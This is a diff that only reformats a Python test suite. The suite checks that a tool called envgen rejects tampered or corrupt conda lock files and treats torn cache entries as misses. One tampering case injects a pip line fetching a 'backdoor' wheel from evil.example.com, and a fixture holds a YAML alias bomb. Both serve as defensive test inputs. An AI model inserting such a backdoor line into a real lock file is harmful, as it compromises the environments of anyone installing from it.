@@ -1,9 +1,10 @@
 """Corrupt and tampered locks, torn caches.
 
-A tampered explicit file (conda-<platform>.lock) is refused by `envgen lock --check` (exit 1) and by
-bootstrap.sh on a stubbed Mac (exit 5), each naming the file and the package; a conda-lock.yml that is
-not a lock (not UTF-8, not YAML, not a mapping…) is one line, never a traceback, and `envgen lock --force`
-replaces it; a torn PyPI cache entry is a cache miss.
+A tampered explicit file (conda-<platform>.lock) is refused by `envgen lock --check`
+(exit 1) and by bootstrap.sh on a stubbed Mac (exit 5), each naming the file and the
+package; a conda-lock.yml that is not a lock (not UTF-8, not YAML, not a mapping…) is
+one line, never a traceback, and `envgen lock --force` replaces it; a torn PyPI cache
+entry is a cache miss.
 """
 
 from __future__ import annotations
@@ -59,7 +60,8 @@ def _flip_last_hex(line: str) -> str:
     return line[:-1] + ("0" if line[-1] != "0" else "1")
 
 
-# name → (how to tamper with the explicit file's lines, the package the refusal must name or None)
+# name → (how to tamper with the explicit file's lines, the package the refusal must
+# name or None)
 TAMPERINGS = {
     "conda-url-host": (
         lambda ls: ls.__setitem__(
@@ -108,8 +110,10 @@ TAMPERINGS = {
     "pip-line-added": (
         lambda ls: ls.insert(
             -1,
-            "# pip backdoor @ https://evil.example.com/backdoor-1.0-py3-none-any.whl#sha256="
-            + "e" * 64,
+            "# pip backdoor @"
+            " https://evil.example.com/backdoor-1.0-py3-none-any.whl#sha256="
+            + "e"
+            * 64,
         ),
         "backdoor",
     ),
@@ -196,8 +200,9 @@ def test_bootstrap_refuses_a_tampered_explicit_file_naming_the_package(
 def test_a_consistent_edit_of_both_files_is_still_caught_by_the_header(
     project, capsys, tmp_path
 ):
-    """Changing a package in conda-lock.yml and re-rendering the body, without envgen lock: the header's
-    conda-lock.yml hash no longer matches, and the stale input hashes do not hide it."""
+    """Changing a package in conda-lock.yml and re-rendering the body, without envgen
+    lock: the header's conda-lock.yml hash no longer matches, and the stale input hashes
+    do not hide it."""
     text = (project / "conda-lock.yml").read_text()
     (project / "conda-lock.yml").write_text(
         text.replace("wrapt-1.12.1", "wrapt-1.12.2")
@@ -209,7 +214,8 @@ def test_a_consistent_edit_of_both_files_is_still_caught_by_the_header(
 
 
 def test_the_python_and_bash_renderings_agree_on_dependency_order(project, tmp_path):
-    """bootstrap.sh's awk puts each conda package after its dependencies exactly as integrity.py does."""
+    """bootstrap.sh's awk puts each conda package after its dependencies exactly as
+    integrity.py does."""
     document = yaml.safe_load((project / "conda-lock.yml").read_text())
     document["package"].reverse()  # dependents before dependencies in the file
     (project / "conda-lock.yml").write_text(yaml.safe_dump(document, sort_keys=False))
@@ -232,7 +238,7 @@ def test_the_python_and_bash_renderings_agree_on_dependency_order(project, tmp_p
     assert done.returncode == 0, done.stderr
 
 
-# ---- a real lock, written by envgen lock against the fixture channel and index -------------------
+# ---- a real lock, written by envgen lock against the fixture channel and index -------
 
 
 @pytest.fixture(scope="module")
@@ -303,17 +309,27 @@ CORRUPT_LOCKS = {
     "a-list": b"- a\n- b\n",
     "a-scalar": b"just words\n",
     "not-yaml": b"metadata: {platforms: [osx-arm64\npackage: [\n",
-    "not-utf8": b"version: 1\nmetadata:\n  platforms: [osx-arm64]\npackage: []\n# \xff\xfe\n",
+    "not-utf8": (
+        b"version: 1\nmetadata:\n  platforms: [osx-arm64]\npackage: []\n# \xff\xfe\n"
+    ),
     "binary": bytes(range(256)),
     "metadata-not-mapping": b"version: 1\nmetadata: 3\npackage: []\n",
-    "package-not-list": b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage: {}\n",
+    "package-not-list": (
+        b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage: {}\n"
+    ),
     "no-platforms": b"version: 1\nmetadata: {}\npackage: []\n",
-    "custom-metadata-list": b"version: 1\nmetadata: {platforms: [osx-arm64], custom_metadata: [1]}\npackage: []\n",
-    "entry-a-string": b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage: [nonsense]\n",
+    "custom-metadata-list": (
+        b"version: 1\nmetadata: {platforms: [osx-arm64], custom_metadata:"
+        b" [1]}\npackage: []\n"
+    ),
+    "entry-a-string": (
+        b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage: [nonsense]\n"
+    ),
     "entry-without-sha256": (
-        b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage:\n- name: python\n  manager: conda\n"
-        b"  platform: osx-arm64\n  url: https://conda.anaconda.org/conda-forge/osx-arm64/python-3.9-0.conda\n"
-        b"  hash: {md5: 0123456789abcdef0123456789abcdef}\n"
+        b"version: 1\nmetadata: {platforms: [osx-arm64]}\npackage:\n- name: python\n "
+        b" manager: conda\n  platform: osx-arm64\n  url:"
+        b" https://conda.anaconda.org/conda-forge/osx-arm64/python-3.9-0.conda\n  hash:"
+        b" {md5: 0123456789abcdef0123456789abcdef}\n"
     ),
     "yaml-bomb-alias": b"a: &a [x, x]\nb: &b [*a, *a]\nmetadata: *b\npackage: *b\n",
 }
@@ -374,7 +390,7 @@ def test_the_python_check_reports_nothing_for_its_own_render(project):
     assert check_explicit(text, document, "osx-arm64", header, EXPLICIT) == []
 
 
-# ---- torn cache entries ----------------------------------------------------------------------------
+# ---- torn cache entries --------------------------------------------------------------
 
 URL = "https://pypi.org/pypi/tensorflow-metal/json"
 
@@ -473,7 +489,8 @@ def _slice_blobs() -> dict[str, bytes]:
 
 @pytest.mark.parametrize("case", sorted(_slice_blobs()))
 def test_a_torn_symbol_table_cache_entry_is_a_miss(case):
-    """envgen/abi's cached dyld tables: a torn file raises only what the wheel store treats as a miss."""
+    """envgen/abi's cached dyld tables: a torn file raises only what the wheel store
+    treats as a miss."""
     import struct
 
     from envgen.abi.machoslice import SparseImage
